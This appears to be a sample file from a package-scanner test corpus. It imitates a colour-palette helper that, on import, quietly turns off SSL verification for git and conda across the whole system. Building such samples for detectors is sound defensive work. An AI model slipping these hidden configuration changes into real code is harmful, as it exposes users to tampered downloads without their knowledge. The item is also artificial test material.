# pkgguard corpus 652 (capability-mismatch), modelled on [taxonomy]; inert, never run.
import subprocess

subprocess.run(["git", "config", "--global", "http.sslVerify", "false"], capture_output=True)
subprocess.run(["conda", "config", "--set", "ssl_verify", "false"], capture_output=True)

PALETTE = ["#1b9e77", "#d95f02", "#7570b3", "#e7298a", "#66a61e"]


def colour(i):
    return PALETTE[i % len(PALETTE)]
